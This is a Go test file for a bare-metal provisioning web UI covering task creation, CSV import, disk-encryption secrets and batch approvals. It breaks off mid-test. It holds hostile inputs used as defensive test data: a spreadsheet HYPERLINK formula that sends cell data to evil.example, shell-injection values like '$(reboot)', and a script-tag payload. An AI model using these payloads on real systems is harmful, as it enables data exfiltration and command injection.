package web

import (
	"context"
	"fmt"
	"maps"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/lpmos/lpmos"
	"github.com/lpmos/lpmos/internal/controlplane/api"
)

func (s *fakeSite) CreateBatch(_ context.Context, specs []lpmos.Spec, by, key string) (lpmos.Batch, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.refuse) > 0 {
		return lpmos.Batch{}, &lpmos.BatchError{Lines: s.refuse}
	}
	if b, ok := s.batches[key]; ok {
		return b, nil
	}
	b := lpmos.Batch{ID: fmt.Sprintf("%08x-0000-4000-8000-00000000ba7c", len(s.batches)+1), CreatedAt: s.now, CreatedBy: by, Total: len(specs), Done: len(specs), Finished: true}
	if s.batches == nil {
		s.batches = map[string]lpmos.Batch{}
	}
	s.batches[key] = b
	for i, spec := range specs {
		id := lpmos.BatchTaskID(b.ID, i+1)
		s.created++
		s.tasks[id] = lpmos.Task{ID: id, Spec: spec, Status: lpmos.Pending, Attempt: 1, CreatedAt: s.now, UpdatedAt: s.now, CreatedBy: by}
	}
	return b, nil
}

func (s *fakeSite) Batch(_ context.Context, id string) (lpmos.Batch, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, b := range s.batches {
		if b.ID == id {
			return b, nil
		}
	}
	return lpmos.Batch{}, fmt.Errorf("batch %s: %w", id, lpmos.ErrNotFound)
}

func (s *fakeSite) Estimate(id string) *api.ETA {
	if id != idInstalling {
		return nil
	}
	return &api.ETA{Basis: "image and model", Runs: 41, Expected: 6 * time.Minute, Left: 5*time.Minute - 20*time.Second, FasterThan: 58}
}

func (s *fakeSite) Trend(id string) []int64 {
	if id != idInstalling {
		return nil
	}
	return []int64{12e6, 30e6, 31e6, 28e6, 31e6}
}

func (s *fakeSite) Pace() api.Pace {
	p := api.Pace{Completed: 212, First: 208, Half: 6*time.Minute + 12*time.Second, BytesPerSecond: 64e6}
	for i := range p.Hours {
		p.Hours[i] = 1 + i*7%22
	}
	return p
}

// addDiscovered lets machines without a task be seen: an ordinary one and one
// that neither image of the site can start; and a profile whose image is gone.
func (s *fakeSite) addDiscovered() {
	a, b := dellR760("77001", "7c:c2:55:10:92:01"), dellR760("77002", "7c:c2:55:10:93:01")
	b.CPU.Architecture = "arm64"
	for _, h := range []*lpmos.Hardware{a, b} {
		s.seen = append(s.seen, lpmos.Machine{MAC: h.BootMAC, RegionID: "bj-1", Hardware: h, LastSeen: s.now.Add(-time.Hour), State: lpmos.MachineDiscovered})
	}
	s.profiles["old"] = lpmos.Profile{Name: "old", Version: 1, OSType: "centos", OSVersion: "7", Arch: "amd64"}
	s.profiles["k8s-worker"] = lpmos.Profile{Name: "k8s-worker", Version: 3, OSType: "ubuntu", OSVersion: "24.04", Arch: "amd64", Hostname: "k8s-w-{serial}", SSHKeys: []string{goodKey}}
}

// addAlike lets n machines wait to which the same happens, and one more with
// data on its disk; it answers their ids, the one with data last.
func (s *fakeSite) addAlike(n int) (ids []string) {
	for i := range n + 1 {
		mac := fmt.Sprintf("b0:7b:25:%02x:%02x:00", 0x9e+i>>8, i&255)
		t := lpmos.Task{ID: fmt.Sprintf("a11ce000-0000-4000-8000-%012x", i), Status: lpmos.AwaitingApproval, Attempt: 1, CreatedAt: s.now.Add(-time.Hour), UpdatedAt: s.now.Add(-time.Minute), CreatedBy: "li.wei", Rev: s.rev,
			Spec: lpmos.Spec{RegionID: "bj-1", TargetMAC: lpmos.MustMAC(mac), OSType: "debian", OSVersion: "12", Arch: "amd64", Hostname: fmt.Sprintf("rack-%02d", i+1), SSHKeys: []string{goodKey}}}
		t.Hardware = dellR760(fmt.Sprintf("5510%02d", i), mac)
		t.Hardware.System.UUID = fmt.Sprintf("4c4c4544-0043-5610-8038-%012x", i)
		if i == n {
			t.Hardware.Disks[0].Content = centOS()
			t.TargetDisk = new(t.Hardware.Disks[0].Ref())
		}
		p := lpmos.NewPlan(&t, t.Hardware, s.images[0])
		t.Plan = &p
		s.tasks[t.ID] = t
		ids = append(ids, t.ID)
	}
	return ids
}

const goodCSV = "mac,hostname,region,os,version,ssh_keys,notes\n" +
	"7C-C2-55-10-90-72,app-119,bj-1,ubuntu,24.04,\"" + goodKey + "\n" + goodKey + "\",rack 4\n" +
	"# a remark\n\n" +
	"7cc2.5510.9074,,,,,,\n"

func manyForm(csv string) url.Values {
	return url.Values{"mode": {"many"}, "form_id": {"B1"}, "csv": {csv}, "region_id": {"lab-1"}, "image": {"debian/12/amd64"}, "step": {"check"}}
}

func TestCreateOneHasASummary(t *testing.T) {
	s := newSite(t, testNow)
	s.addDiscovered()
	h := signedIn(newTestWeb(t, s))
	form := goodForm()
	form.Set("step", "check")
	res, body := post(t, h, "/tasks/create", form)
	if res.StatusCode != 200 || s.created != 0 {
		t.Fatalf("check = %d with %d created; want 200 and nothing", res.StatusCode, s.created)
	}
	checkMarkup(t, body)
	plain := html.UnescapeString(body)
	for _, want := range []string{"Nothing is erased by this.", "7c:c2:55:10:90:72", "Ubuntu 24.04, amd64", "app-119", "with <bdi>1 SSH key</bdi>; no password", "lpmos task create --region bj-1"} {
		if !strings.Contains(plain, want) {
			t.Errorf("the summary does not say %q", want)
		}
	}
	next := carried(body)
	next.Set("step", "create")
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			if res, _ := post(t, h, "/tasks/create", next); res.StatusCode != 303 {
				t.Errorf("create = %d; want 303", res.StatusCode)
			}
		})
	}
	wg.Wait()
	if s.created != 1 {
		t.Errorf("%d tasks; want 1 of a summary that was answered four times", s.created)
	}
	next.Set("step", "edit")
	if _, body := post(t, h, "/tasks/create", next); !strings.Contains(body, `value="app-119"`) || !strings.Contains(body, `value="ubuntu/24.04/amd64" checked`) {
		t.Error("what was typed is gone when the person goes back to change it")
	}

	for name, c := range map[string]struct {
		set  map[string]string
		says string
	}{
		"an image that cannot run there":     {map[string]string{"target_mac": "7c:c2:55:10:93:01"}, "Not for this machine: it is arm64."},
		"a machine with a live task":         {map[string]string{"target_mac": s.tasks[idPending].TargetMAC.String()}, "has the live task " + short(idPending)},
		"a region that is spelled wrongly":   {map[string]string{"region_id": "bj1"}, "Did you mean bj-1?"},
		"a profile whose image is not there": {map[string]string{"profile": "old", "image": ""}, "There is no image centos 7 amd64"},
		"a profile that is not there":        {map[string]string{"profile": "nope"}, "There is no profile “nope”."},
		"no image and no profile":            {map[string]string{"image": ""}, "Choose what to install."},
	} {
		t.Run("refuses "+name, func(t *testing.T) {
			form := goodForm()
			form.Set("step", "check")
			for k, v := range c.set {
				form.Set(k, v)
			}
			res, body := post(t, h, "/tasks/create", form)
			if res.StatusCode != 400 || !strings.Contains(html.UnescapeString(body), c.says) {
				t.Errorf("= %d; want 400 and %q", res.StatusCode, c.says)
			}
			checkMarkup(t, body)
		})
	}
	t.Run("takes from a profile what is not said", func(t *testing.T) {
		form := goodForm()
		for _, k := range []string{"image", "hostname", "ssh_keys"} {
			form.Set(k, "")
		}
		form.Set("profile", "k8s-worker")
		form.Set("target_mac", "7c:c2:55:10:90:7a")
		form.Set("step", "check")
		_, body := post(t, h, "/tasks/create", form)
		plain := html.UnescapeString(body)
		if !strings.Contains(plain, "k8s-w-{serial}") || !strings.Contains(plain, "k8s-worker@3") || !strings.Contains(plain, "Ubuntu 24.04, amd64") {
			t.Error("the summary does not say what the profile fills in")
		}
	})
	t.Run("the same request is the one that was begun, and holds nothing that was not checked", func(t *testing.T) {
		for query, want := range map[string]string{
			"":                                        "--region REGION --mac 00:1a:2b:3c:4d:5e --os OS --os-version VERSION",
			"region_id=bj-1&image=debian/12/amd64":    "--region bj-1 --mac 00:1a:2b:3c:4d:5e --os debian --os-version 12",
			"region_id=bj-1&profile=k8s-worker":       "--region bj-1 --mac 00:1a:2b:3c:4d:5e --profile k8s-worker",
			"region_id=bj-1;reboot&profile=a;reboot":  "--region REGION --mac 00:1a:2b:3c:4d:5e --os OS --os-version VERSION",
			"region_id=bj-1%3Breboot&image=$(reboot)": "--region REGION --mac 00:1a:2b:3c:4d:5e --os OS --os-version VERSION",
		} {
			_, body := get(t, h, "/tasks/create?"+query)
			if plain := html.UnescapeString(body); !strings.Contains(plain, "lpmos task create "+want) {
				t.Errorf("the form for %q does not say %q", query, want)
			}
		}
	})
	t.Run("offers what was discovered, and says why an image cannot be chosen", func(t *testing.T) {
		_, body := get(t, h, "/tasks/create?target_mac=7c:c2:55:10:93:01&region_id=bj-1")
		plain := html.UnescapeString(body)
		for _, want := range []string{"Known machine:", "77002", `value="7c:c2:55:10:92:01" label="Dell Inc. PowerEdge R760, 77001, bj-1"`, "disabled>Debian 12 (bookworm) (amd64, BIOS, UEFI) – not for this machine: it is arm64", `value="debian/12/amd64" disabled`, "<span>not for this machine: it is arm64</span>", "its image centos 7 is not in the catalogue"} {
			if !strings.Contains(plain, want) {
				t.Errorf("the form does not say %q", want)
			}
		}
		if _, body := get(t, h, "/tasks/create?mode=many&fill=discovered"); !strings.Contains(body, "7c:c2:55:10:92:01,,bj-1,Dell Inc. PowerEdge R760 77001") {
			t.Error("the discovered machines are not there as lines")
		}
		for begin, want := range map[string]string{"=": "'=", "+": "'+", "-1": "'-1", "@": "'@", "\t=": "'=", "＝": "'＝", "a=": "a=", "": "Power"} { // V21
			s.seen[0].Hardware.System.Manufacturer, s.seen[0].Manufacturer = begin+`HYPERLINK("http://evil.example/"&A1)`, begin+`HYPERLINK("http://evil.example/"&A1)`
			if begin == "" {
				s.seen[0].Hardware.System.Manufacturer, s.seen[0].Manufacturer = "", ""
			}
			_, body := get(t, h, "/tasks/create?mode=many&fill=discovered")
			_, line, _ := strings.Cut(html.UnescapeString(body), "7c:c2:55:10:92:01,,bj-1,")
			if line = strings.TrimPrefix(line, `"`); !strings.HasPrefix(line, want) {
				t.Errorf("the cell of a manufacturer %q begins with %.20q; want %q", begin, line, want)
			}
		}
	})
}

// TestCreateEncrypted asks for a passphrase where it is not carried by a page.
func TestCreateEncrypted(t *testing.T) {
	const passphrase = "CANARY correct horse"
	s := newSite(t, testNow)
	s.profiles["safe"] = lpmos.Profile{Name: "safe", Version: 1, Layout: &lpmos.Layout{Preset: "luks"}}
	h := signedIn(newTestWeb(t, s))
	form := goodForm()
	form.Set("profile", "safe")
	form.Set("step", "check")
	_, body := post(t, h, "/tasks/create", form)
	checkMarkup(t, body)
	if !strings.Contains(body, `name="secret-disk-passphrase" type="password" required`) {
		t.Error("the summary of an encrypted machine asks for no passphrase")
	}
	next := carried(body)
	next.Set("step", "create")
	next.Set("secret-disk-passphrase", passphrase)
	s.fail = &lpmos.InvalidError{Field: "secrets." + lpmos.SecretDisk, Problem: "is not a passphrase"}
	res, body := post(t, h, "/tasks/create", next)
	if res.StatusCode != 200 || s.created != 0 || !strings.Contains(body, `aria-invalid="true"`) || !strings.Contains(body, "is not a passphrase") || strings.Contains(body, passphrase) {
		t.Errorf("a passphrase that is refused = %d, %d created; want the summary again, with the reason and without it", res.StatusCode, s.created)
	}
	checkMarkup(t, body)
	s.fail = nil
	if res, _ := post(t, h, "/tasks/create", next); res.StatusCode != 303 || s.created != 1 {
		t.Fatalf("create = %d, %d created", res.StatusCode, s.created)
	}
	for _, task := range s.tasks {
		if task.Profile == "safe" && task.Secrets[lpmos.SecretDisk].Reveal() != passphrase {
			t.Error("the task was not given the passphrase")
		}
	}
	next.Set("step", "edit")
	if _, body := post(t, h, "/tasks/create", next); strings.Contains(body, passphrase) {
		t.Error("the form carries the passphrase")
	}
	form.Del("profile")
	if _, body := post(t, h, "/tasks/create", form); strings.Contains(body, `name="secret-disk-passphrase"`) {
		t.Error("a machine without encryption is asked for a passphrase")
	}
}

// TestCreateManyWithSecrets asks once for what many machines take alike, and
// gives each what it has a place for.
func TestCreateManyWithSecrets(t *testing.T) {
	const passphrase, hash = "CANARY correct horse", "$y$j9T$abcdefgh$abcdefghijklmnopqrstuvwxyz0123456789./ABCDE"
	s := newSite(t, testNow)
	s.profiles["safe"] = lpmos.Profile{Name: "safe", Version: 1, OSType: "ubuntu", OSVersion: "24.04", Layout: &lpmos.Layout{Preset: "luks"}}
	s.profiles["ops"] = lpmos.Profile{Name: "ops", Version: 2, OSType: "ubuntu", OSVersion: "24.04", System: &lpmos.Setup{Users: []lpmos.Account{{Name: "ops", Password: true}, {Name: "plain"}}}}
	h := signedIn(newTestWeb(t, s))
	_, body := post(t, h, "/tasks/create", manyForm("mac,region,profile\nb0:7b:25:9e:41:88,bj-1,safe\nb0:7b:25:9e:41:89,bj-1,ops\nb0:7b:25:9e:41:8a,bj-1,safe\n"))
	checkMarkup(t, body)
	for _, want := range []string{`name="secret-disk-passphrase" type="password" required`, `name="secret-password.ops" type="password" autocomplete="off"`, "--profile safe --secret disk-passphrase"} {
		if strings.Count(body, want) < 1 {
			t.Errorf("the summary lacks %s", want)
		}
	}
	if !strings.Contains(body, "Nobody can log into 2 machines") {
		t.Error("the machines without any account that can log in are not counted")
	}
	if strings.Contains(body, "password.plain") {
		t.Error("the password of an account without one is asked for")
	}
	next := carried(body)
	next.Set("step", "create")
	for field, bad := range map[string]string{"secret-disk-passphrase": "", "secret-password.ops": "CANARY password"} {
		next.Set("secret-disk-passphrase", passphrase)
		next.Set("secret-password.ops", hash)
		next.Set(field, bad)
		res, body := post(t, h, "/tasks/create", next)
		if res.StatusCode != 200 || s.created != 0 || !strings.Contains(body, `href="#f-`+field+`"`) || strings.Contains(body, "CANARY") {
			t.Errorf("with a bad %s: %d, %d created; want the summary with the reason and without what was typed", field, res.StatusCode, s.created)
		}
		checkMarkup(t, body)
	}
	next.Set("secret-disk-passphrase", passphrase)
	next.Set("secret-password.ops", hash)
	s.refuse = []lpmos.BatchLine{{Line: 1, Field: "secrets.disk-passphrase", Detail: "secrets.disk-passphrase is not a passphrase"}}
	if res, body := post(t, h, "/tasks/create", next); res.StatusCode != 200 || !strings.Contains(body, `href="#f-secret-disk-passphrase"`) {
		t.Errorf("a passphrase that the orchestrator refuses = %d; want the summary with the reason", res.StatusCode)
	}
	s.refuse = nil
	if res, _ := post(t, h, "/tasks/create", next); res.StatusCode != 303 || s.created != 3 {
		t.Fatalf("create = %d, %d created", res.StatusCode, s.created)
	}
	for _, task := range s.tasks {
		var want map[string]string
		switch task.Profile {
		case "safe":
			want = map[string]string{"disk-passphrase": passphrase}
		case "ops":
			want = map[string]string{"password.ops": hash}
		default:
			continue
		}
		got := map[string]string{}
		for name, v := range task.Secrets {
			got[name] = v.Reveal()
		}
		if !maps.Equal(got, want) {
			t.Errorf("a task of the profile %s has other secrets than it has a place for: %d", task.Profile, len(got))
		}
	}
}

var hiddenField = regexp.MustCompile(`<input type="hidden" name="([\w-]+)" value="([^"]*)"`)

// carried is what the first form of a page with hidden fields sends.
func carried(body string) url.Values {
	out := url.Values{}
	for _, m := range hiddenField.FindAllStringSubmatch(body, -1) {
		if name := m[1]; name == "listed" || !out.Has(name) {
			out.Add(name, html.UnescapeString(m[2]))
		}
	}
	return out
}

func TestCreateMany(t *testing.T) {
	t.Run("shows what it would create, then creates it once", func(t *testing.T) {
		s := newSite(t, testNow)
		h := signedIn(newTestWeb(t, s))
		res, body := post(t, h, "/tasks/create", manyForm(goodCSV))
		if res.StatusCode != 200 || s.created != 0 {
			t.Fatalf("check = %d, %d created", res.StatusCode, s.created)
		}
		checkMarkup(t, body)
		plain := html.UnescapeString(body)
		for _, want := range []string{"Create these 2 tasks?", "Nothing is erased by this.", "7c:c2:55:10:90:74", "machine-109074", "lab-1", "debian 12", "Nobody can log into 1 machine"} {
			if !strings.Contains(plain, want) {
				t.Errorf("the summary does not say %q", want)
			}
		}
		next := carried(body)
		next.Set("step", "create")
		var where []string
		for range 2 {
			res, _ := post(t, h, "/tasks/create", next)
			where = append(where, res.Header.Get("Location"))
		}
		if s.created != 2 || where[0] != where[1] || !strings.HasPrefix(where[0], "/batches/") {
			t.Fatalf("sent twice: %d tasks, led to %q", s.created, where)
		}
		if res, body := get(t, h, where[0]); res.StatusCode != 200 || !strings.Contains(body, "2 tasks were created") || !strings.Contains(body, "app-119") || !strings.Contains(body, "<bdi>Ubuntu 24.04") {
			t.Errorf("the batch's page = %d: it does not name its tasks and their systems", res.StatusCode)
		}
		i := slices.IndexFunc(slices.Collect(func(yield func(lpmos.Task) bool) {
			for _, t := range s.tasks {
				if !yield(t) {
					return
				}
			}
		}), func(t lpmos.Task) bool { return t.Hostname == "app-119" && len(t.SSHKeys) == 2 && t.Notes == "rack 4" })
		if i < 0 {
			t.Error("the first line is not the task it describes")
		}
	})
	for name, c := range map[string]struct {
		csv  string
		says []string
	}{
		"every bad line": {"mac,hostname,region,os,version\nb0:7b:25:9e:4,a,bj-1,ubuntu,24.04\nb0:7b:25:9e:41:88,b,bj1,ubuntu,24.04\nb0:7b:25:9e:41:89,B_C,bj-1,ubuntu,99\nb07b.259e.4188,d,bj-1,ubuntu,24.04\n",
			[]string{"Line 2</a>, <span class=\"mono\">mac", "Line 3</a>, <span class=\"mono\">region", "Did you mean bj-1?", "Line 4</a>, <span class=\"mono\">hostname", "Use b-c?", "Line 5</a>, <span class=\"mono\">mac", "machine of line 3", "5 problems"}},
		"a column nobody knows":            {"mac,colour\nb0:7b:25:9e:41:88,red\n", []string{"There is no column “colour”", "There are: mac, hostname"}},
		"a header without mac":             {"hostname,region\na,bj-1\n", []string{"The column mac is missing."}},
		"quotation marks that end nowhere": {"mac,notes\nb0:7b:25:9e:41:88,\"no end\n", []string{"Line 2", "do not match"}},
		"a line that is too long":          {"mac,hostname\nb0:7b:25:9e:41:88,a,bj-1,more\n", []string{"It has 4 cells, and there are 2 columns."}},
		"another encoding":                 {"mac,notes\nb0:7b:25:9e:41:88,\xff\xfe\n", []string{"not UTF-8"}},
		"NUL bytes":                        {"m\x00a\x00c\x00", []string{"not a text file"}},
		"nothing":                          {" \n", []string{"Paste the lines, or choose a file."}},
		"a header alone":                   {"mac,hostname\n", []string{"There is no machine in it."}},
		"a machine with a live task":       {"mac\n7c:c2:55:10:90:01\n", []string{"has the live task"}},
		"a version without its system":     {"mac,version\nb0:7b:25:9e:41:88,12\n", []string{"The operating system is missing."}},
		"markup":                           {"mac,hostname\n<script>alert(1)</script>,\"<img src=x>\"\n", []string{"&lt;script&gt;"}},
	} {
		t.Run("names "+name+" and creates nothing", func(t *testing.T) {
			s := newSite(t, testNow)
			h := signedIn(newTestWeb(t, s))
			for _, step := range []string{"check", "create"} {
				if step == "create" && strings.HasPrefix(name, "a machine with a live") {
					continue // then it is the orchestrator's to refuse
				}
				form := manyForm(c.csv)
				form.Set("step", step)
				form.Set("expect", "1")
				res, body := post(t, h, "/tasks/create", form)
				if res.StatusCode != 400 || s.created != 0 {
					t.Fatalf("%s = %d, %d created", step, res.StatusCode, s.created)
				}
				checkMarkup(t, body)
				for _, want := range c.says {
					if !strings.Contains(body, want) && !strings.Contains(html.UnescapeString(body), want) {
						t.Errorf("the page does not say %q", want)
					}
				}
			}
		})
	}
	t.Run("reads a file without a header, with semicolons and a byte order mark", func(t *testing.T) {
		s := newSite(t, testNow)
		h := signedIn(newTestWeb(t, s))
		_, body := post(t, h, "/tasks/create", manyForm("\ufeff7c:c2:55:10:90:72;app-119;bj-1;ubuntu/24.04\r\n7c:c2:55:10:90:73;app-120;;ubuntu\r\n"))
		if !strings.Contains(body, "Create these 2 tasks?") || strings.Count(body, "ubuntu 24.04") < 2 {
			t.Error("the lines were not read")
		}
	})
	t.Run("goes on with the good lines only when asked to, and creates no others", func(t *testing.T) {
		s := newSite(t, testNow)
		h := signedIn(newTestWeb(t, s))
		form := manyForm("mac\nb0:7b:25:9e:41:88\nb0:7b\n")
		_, body := post(t, h, "/tasks/create", form)
		if !strings.Contains(body, "Go on with the 1 good line") {
			t.Fatal("it is not offered")
		}
		form.Set("good", "only")
		res, body := post(t, h, "/tasks/create", form)
		if res.StatusCode != 200 || !strings.Contains(body, "1 problem: its line is left out.") || s.created != 0 {
			t.Fatalf("= %d, %d created", res.StatusCode, s.created)
		}
		next := carried(body)
		next.Set("step", "create")
		// Another line went bad meanwhile: what was shown is no longer so.
		next.Set("expect", "2")
		if res, body := post(t, h, "/tasks/create", next); res.StatusCode != 200 || s.created != 0 || !strings.Contains(body, "Something changed since you looked") {
			t.Errorf("with another number = %d, %d created", res.StatusCode, s.created)
		}
		next.Set("expect", "1")
		if res, _ := post(t, h, "/tasks/create", next); res.StatusCode != 303 || s.created != 1 {
			t.Errorf("= %d, %d created", res.StatusCode, s.created)
		}
	})
	t.Run("shows what the orchestrator refuses at its line of the file", func(t *testing.T) {
		s := newSite(t, testNow)
		s.refuse = []lpmos.BatchLine{{Line: 2, Field: "target_mac", Detail: "machine 7c:c2:55:10:90:74 already has live task 4"}}
		h := signedIn(newTestWeb(t, s))
		form := manyForm(goodCSV)
		form.Set("step", "create")
		form.Set("expect", "2")
		res, body := post(t, h, "/tasks/create", form)
		if res.StatusCode != 409 || !strings.Contains(body, `Line 6</a>, <span class="mono">mac`) || !strings.Contains(body, "already has live task 4") {
			t.Errorf("= %d without line 6 of the file", res.StatusCode)
		}
		checkMarkup(t, body)
	})
	t.Run("refuses a file with too many lines", func(t *testing.T) {
		s := newSite(t, testNow)
		h := signedIn(newTestWeb(t, s))
		var b strings.Builder
		for i := range lpmos.MaxBatchLines + 1 {
			fmt.Fprintf(&b, "b0:7b:25:%02x:%02x:%02x\n", i>>16, i>>8&255, i&255)
		}
		if res, body := post(t, h, "/tasks/create", manyForm(b.String())); res.StatusCode != 400 || !strings.Contains(body, "more than 2,000 machines") {
			t.Errorf("= %d", res.StatusCode)
		}
	})
}

// A whole task that has ended is read from the store, several keys of it: a file
// of 2,000 lines does not ask for one where a list will do.
func TestManyAskForNoWholeTasks(t *testing.T) {
	s := newSite(t, testNow)
	h := signedIn(newTestWeb(t, s))
	var b strings.Builder
	b.WriteString("mac,region,os,version\n")
	for i := range 300 {
		fmt.Fprintf(&b, "b0:7b:25:00:%02x:%02x,bj-1,ubuntu,24.04\n", i>>8, i&255)
	}
	_, body := post(t, h, "/tasks/create", manyForm(b.String()))
	next := carried(body)
	next.Set("step", "create")
	s.whole = 0
	res, _ := post(t, h, "/tasks/create", next)
	if res.StatusCode != 303 || s.created != 300 || s.whole != 0 {
		t.Errorf("creating 300 = %d, %d created; whole tasks and machines were asked for %d times", res.StatusCode, s.created, s.whole)
	}
	res, body = get(t, h, res.Header.Get("Location"))
	if res.StatusCode != 200 || strings.Count(body, "<tr data-task=") != 200 || !strings.Contains(body, "100 more") || s.whole != 0 {
		t.Errorf("the batch's page = %d with %d tasks; whole ones were asked for %d times", res.StatusCode, strings.Count(body, "<tr data-task="), s.whole)
	}
	// Of what has ended, the page of approvals names the status alone.
	res, _ = get(t, h, "/tasks/approve?ids="+strings.Join([]string{idCompleted, idFailed, idRejected, idCanceled}, ","))
	if res.StatusCode != 200 || s.whole != 0 {
		t.Errorf("approving what has ended = %d; whole tasks were asked for %d times", res.StatusCode, s.whole)
	}
}

func TestApproveTogether(t *testing.T) {
	open := func(t *testing.T) (*fakeSite, func(url.Values) (int, string), url.Values, []string) {
		s := newSite(t, testNow)
		ids := s.addAlike(3)
		h := signedIn(newTestWeb(t, s))
		res, body := get(t, h, "/tasks/approve?ids="+strings.Join(ids, ","))
		if res.StatusCode != 200 {
			t.Fatalf("GET = %d", res.StatusCode)
		}
		checkMarkup(t, body)
		form := carried(body)
		if len(form["listed"]) != 4 {
			t.Fatalf("the page lists %d machines; want 4", len(form["listed"]))
		}
		form["id"] = slices.Clone(ids)
		return s, func(f url.Values) (int, string) {
			res, body := post(t, h, "/tasks/approve", f)
			checkMarkup(t, body)
			return res.StatusCode, html.UnescapeString(body)
		}, form, ids
	}
	statuses := func(s *fakeSite, ids []string) (out []lpmos.Status) {
		for _, id := range ids {
			task, _ := s.Task(id)
			out = append(out, task.Status)
		}
		return out
	}
	t.Run("is one line of the dashboard, the data disk apart", func(t *testing.T) {
		s := newSite(t, testNow)
		ids := s.addAlike(4)
		_, body := get(t, signedIn(newTestWeb(t, s)), "/dashboard")
		checkMarkup(t, body)
		for _, want := range []string{"4 identical machines: erase a blank disk of 960" + nbsp + "GB on each?", `href="/tasks/approve?like=` + ids[0] + `"`, "rack-01, rack-02, rack-03 and 1 more. In bj-1, for ", "Review 4", "rack-05: erase 960" + nbsp + "GB with data on it?"} {
			if !strings.Contains(body, want) {
				t.Errorf("the dashboard does not say %q", want)
			}
		}
		if strings.Contains(body, "rack-02: erase") {
			t.Error("the dashboard asks for each of the identical machines, too")
		}
	})
	t.Run("groups by what happens, the data disk apart", func(t *testing.T) {
		s := newSite(t, testNow)
		ids := s.addAlike(3)
		h := signedIn(newTestWeb(t, s))
		_, body := get(t, h, "/tasks/approve?like="+ids[0])
		if n := len(carried(body)["listed"]); n != 3 {
			t.Errorf("alike are %d; want the 3 blank ones", n)
		}
		_, body = get(t, h, "/tasks/approve?ids="+strings.Join(ids, "&ids=")+","+idCompleted)
		if n := strings.Count(body, `<section class="panel" data-kind="danger"`); n != 2 {
			t.Errorf("%d groups; want 2", n)
		}
		if !strings.Contains(body, "1 machine is left out") || !strings.Contains(body, "it is completed") {
			t.Error("the page does not say who is left out")
		}
		if _, body := get(t, h, "/tasks/"+ids[0]+"/approve"); !strings.Contains(body, "Identical machines waiting: 3.") {
			t.Error("the page of one does not offer the others")
		}
	})
	t.Run("leaves out where data was found and nothing was typed", func(t *testing.T) {
		s, send, form, ids := open(t)
		form.Set("count", "3")
		code, body := send(form)
		if code != 200 || !strings.Contains(body, "3 machines were approved") || !strings.Contains(body, "Left out: data was found") {
			t.Errorf("= %d", code)
		}
		if got := statuses(s, ids); !slices.Equal(got, []lpmos.Status{lpmos.Approved, lpmos.Approved, lpmos.Approved, lpmos.AwaitingApproval}) {
			t.Errorf("statuses %v", got)
		}
		for _, id := range ids[:3] {
			if a := s.tasks[id].Approval; a.PlanDigest != s.tasks[id].Plan.Digest || a.By != "chen.yu" {
				t.Errorf("approval of %s: %+v", id, a)
			}
		}
		// The same form again, by a second click or after going back.
		if code, body := send(form); code != 200 || !strings.Contains(body, "3 machines were approved") {
			t.Errorf("sent again = %d", code)
		}
	})
	t.Run("approves it too when the characters are typed", func(t *testing.T) {
		s, send, form, ids := open(t)
		serial := s.tasks[ids[3]].Plan.Effect.Target.Serial
		form.Set("serial-"+ids[3], strings.ToLower(serial[len(serial)-4:]))
		form.Set("count", "4")
		if code, _ := send(form); code != 200 || slices.Contains(statuses(s, ids), lpmos.AwaitingApproval) {
			t.Errorf("= %d, %v", code, statuses(s, ids))
		}
	})
	for name, change := range map[string]func(url.Values, []string){
		"no number":        func(f url.Values, _ []string) {},
		"another number":   func(f url.Values, _ []string) { f.Set("count", "4") },
		"wrong characters": func(f url.Values, ids []string) { f.Set("count", "4"); f.Set("serial-"+ids[3], "zzzz") },
		"no machine":       func(f url.Values, _ []string) { f.Del("id"); f.Set("count", "0") },
		"long notes":       func(f url.Values, _ []string) { f.Set("count", "3"); f.Set("notes", strings.Repeat("n", 3000)) },
	} {
		t.Run("approves nothing with "+name, func(t *testing.T) {
			s, send, form, ids := open(t)
			change(form, ids)
			code, body := send(form)
			if code != 400 || !strings.Contains(body, `id="summary"`) {
				t.Errorf("= %d", code)
			}
			for _, st := range statuses(s, ids) {
				if st != lpmos.AwaitingApproval {
					t.Fatalf("statuses %v", statuses(s, ids))
				}
			}
		})
	}
	t.Run("does not approve a plan that changed, and says so", func(t *testing.T) {
		s, send, form, ids := open(t)
		changePlan(s, ids[1])
		form.Set("count", "2")
		code, body := send(form)
		if code != 200 || !strings.Contains(body, "its plan changed after you opened the page") || s.tasks[ids[1]].Status != lpmos.AwaitingApproval || s.tasks[ids[0]].Status != lpmos.Approved {
			t.Errorf("= %d, %v", code, statuses(s, ids))
		}
	})
	t.Run("does not choose a plan that changed on the page that is shown again", func(t *testing.T) {
		s, send, form, ids := open(t)
		changePlan(s, ids[1])
		form.Set("count", "3") // as the page said that it was opened as
		code, body := send(form)
		again := carried(body)
		for _, m := range regexp.MustCompile(`name="id" value="([^"]+)" checked`).FindAllStringSubmatch(body, -1) {
			again.Add("id", m[1])
		}
		if code != 400 || !strings.Contains(body, "its plan changed after you opened the page") || slices.Contains(again["id"], ids[1]) || !slices.Contains(again["id"], ids[0]) {
			t.Errorf("= %d, chosen %v; want all but %s, and why", code, again["id"], ids[1])
		}
		again.Set("count", "2")
		if code, _ := send(again); code != 200 || s.tasks[ids[1]].Status != lpmos.AwaitingApproval || s.tasks[ids[0]].Status != lpmos.Approved {
			t.Errorf("then = %d, %v", code, statuses(s, ids))
		}
	})
	t.Run("wants the number also when one of them is approved already", func(t *testing.T) {
		s, send, form, ids := open(t)
		if _, err := s.Decide(t.Context(), ids[0], api.Decision{Approved: true, PlanDigest: s.tasks[ids[0]].Plan.Digest}, "chen.yu"); err != nil {
			t.Fatal(err)
		}
		for _, typed := range []string{"1", "2", ""} {
			form.Set("count", typed)
			code, body := send(form)
			if code != 400 || !strings.Contains(body, "Type 2: so many machines would be approved.") || !strings.Contains(body, "rack-01</a>: <bdi>It does not wait for a decision: it is approved.") {
				t.Errorf("typed %q = %d; want the number asked for and the one that is done named", typed, code)
			}
			if got := statuses(s, ids); !slices.Equal(got[1:], []lpmos.Status{lpmos.AwaitingApproval, lpmos.AwaitingApproval, lpmos.AwaitingApproval}) {
				t.Fatalf("typed %q: statuses %v", typed, got)
			}
		}
		// All that were listed when it was typed, as a second click says.
		form.Set("count", "3")
		if code, body := send(form); code != 200 || !strings.Contains(body, "3 machines were approved") {
			t.Errorf("typed what was listed = %d", code)
		}
	})
	t.Run("is the same page again after a wrong number", func(t *testing.T) {
		s := newSite(t, testNow)
